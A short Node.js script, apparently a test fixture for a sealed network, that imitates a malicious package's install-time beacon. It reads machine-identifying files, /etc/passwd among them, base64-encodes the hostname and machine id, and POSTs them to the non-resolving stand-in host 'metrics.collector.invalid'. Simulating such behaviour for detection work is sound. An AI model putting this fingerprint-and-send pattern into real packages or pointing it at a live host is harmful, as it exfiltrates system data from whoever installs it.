// SPDX-License-Identifier: Apache-2.0
// Does what the install script of a malicious package does first: it finds out where it is, and sends that home.
// Nothing is written, and home cannot exist (RFC 6761): outside of a sealed network, which plays it, nothing is sent.
'use strict'

const { readFileSync } = require('node:fs')
const { request } = require('node:http')
const os = require('node:os')

const files = [
  '/etc/machine-id',
  '/etc/os-release',
  '/etc/passwd',
  '/proc/cpuinfo',
  '/proc/version',
]

function look(path) {
  try {
    return readFileSync(path, 'utf8')
  } catch {
    return '' // not every system has every file
  }
}

const seen = files.map(look)
const facts = Buffer.from(JSON.stringify({ host: os.hostname(), machine: seen[0].trim() })).toString('base64')
const done = () => {
  const count = seen.filter((text) => text).length
  console.log(`metrics-probe: read ${count} files that tell machines apart, kept nothing`)
}

const beacon = request({ host: 'metrics.collector.invalid', path: '/hello', method: 'POST' }, (answer) => {
  answer.resume().on('end', done)
})
beacon.on('error', done)
beacon.end(facts)
